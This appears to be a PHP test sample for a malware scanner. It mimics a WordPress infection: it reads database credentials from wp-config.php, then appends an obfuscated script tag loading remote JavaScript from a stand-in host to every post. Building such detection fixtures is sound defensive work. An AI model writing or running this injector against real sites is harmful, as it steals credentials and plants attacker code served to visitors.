<?php
// spamtrace test sample: harmless look-alike written for the scanner tests (never run).
$cfg = file_get_contents('wp-config.php');
preg_match_all("/define\(\s*'(DB_\w+)'\s*,\s*'([^']*)'/", $cfg, $m);
$d = array_combine($m[1], $m[2]);
$pdo = new PDO('mysql:host=' . $d['DB_HOST'] . ';dbname=' . $d['DB_NAME'], $d['DB_USER'], $d['DB_PASSWORD']);
$code = base64_decode('PHNjcmlwdCBzcmM9Imh0dHBzOi8vY2RuLWpzLmV4YW1wbGUudG9wL2EuanMiPjwvc2NyaXB0Pg==');
$pdo->prepare('UPDATE wp_posts SET post_content = CONCAT(post_content, ?)')->execute([$code]);
